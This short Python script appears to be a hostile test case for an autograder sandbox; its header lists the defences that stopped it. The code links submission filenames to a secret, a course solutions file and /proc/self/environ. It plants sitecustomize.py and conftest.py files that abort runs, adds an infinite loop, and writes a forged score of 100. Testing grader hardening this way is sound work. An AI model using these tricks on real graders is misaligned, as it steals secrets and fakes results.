# tries: leave links to secrets in scratch, named so that a grader that collects files reads them
# stopped by: seccomp, landlock, scratch, reader
# honest: 0
import os
import pathlib

TARGETS = ["@SECRET@", "@COURSE@/solutions/custom_losses/master.py", "/proc/self/environ", "/"]
NAMES = ["custom_losses.py", "results.json", "output.txt", "submission.py", ".OTTER_LOG"]
for name, target in zip(NAMES, TARGETS * 2):
    for link in (os.symlink, os.link):
        try:
            link(target, name)
            print(name, open(name).read())
        except OSError as error:
            print(link.__name__, name, error.strerror)
    try:
        os.mkfifo("fifo-" + name)
    except OSError as error:
        print("mkfifo", error.strerror)
pathlib.Path("custom_losses.py").write_text("while True: pass")
pathlib.Path("sitecustomize.py").write_text("raise SystemExit('hostile-was-here')")
pathlib.Path("conftest.py").write_text("raise SystemExit('hostile-was-here')")
os.mkdir("results")
pathlib.Path("results/reads_through_links_the_grader_follows.json").write_text('{"score": 100}')
print(sorted(os.listdir(".")))
